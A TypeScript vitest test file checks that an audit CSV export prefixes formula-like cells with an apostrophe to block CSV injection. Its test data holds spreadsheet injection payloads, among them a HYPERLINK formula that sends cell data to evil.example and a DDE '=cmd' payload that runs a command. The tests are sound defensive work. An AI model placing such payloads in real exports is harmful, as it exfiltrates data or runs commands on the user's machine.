/**
 * The CSV export never hands a spreadsheet a formula: a text cell that begins with `=`, `+`, `-`,
 * `@`, a tab or a carriage return is written with a `'` in front (OWASP, CSV injection), and is
 * still read back as one field.
 */
import { describe, expect, it } from 'vitest';
import { csvField, parseCsv, sessionCsvLine } from '../../projections/auditCsv.js';
import type { SessionSummary } from '../../projections/auditQueries.js';

const session = (over: Partial<SessionSummary>): SessionSummary => ({
  tenantId: 'contoso',
  sessionId: 'session-1',
  callId: 'call-1',
  policy: 'Global',
  orbit: 10,
  orbitCode: '10',
  parker: { userId: 'alice@contoso.com', endpoint: 'teams-desktop' },
  outcome: 'retrieved',
  status: 'retrieved',
  parkedAt: Date.UTC(2026, 10, 22, 9),
  ringBackAttempts: 0,
  ...over,
});

describe('the CSV export and formulas', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")'],
    ["=cmd|' /C calc'!A0"],
    ['@SUM(1+1)'],
    ['+14255550100'],
    ['-2+3'],
    ['\tx'],
    ['\r=1'],
  ])('writes %j so that no spreadsheet runs it', (value) => {
    const [field] = parseCsv(`${csvField(value)}\r\n`)[0]!;
    expect(field).toBe(`'${value}`);
  });

  it('leaves other text and numbers as they are', () => {
    expect(csvField('alice@contoso.com')).toBe('alice@contoso.com');
    expect(csvField('*3012')).toBe('*3012');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(-1)).toBe('-1');
    expect(csvField(0)).toBe('0');
  });

  it('neutralises a session whose call id, user id and caller are formulas', () => {
    const line = sessionCsvLine(
      session({
        callId: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        parker: { userId: "=cmd|' /C calc'!A0", endpoint: 'teams-desktop' },
        caller: '@SUM(1+1)',
      }),
    );
    const [row] = parseCsv(line);
    expect(row![2]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(row![5]).toBe("'@SUM(1+1)");
    expect(row![6]).toBe("'=cmd|' /C calc'!A0");
    for (const field of row!) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });
});
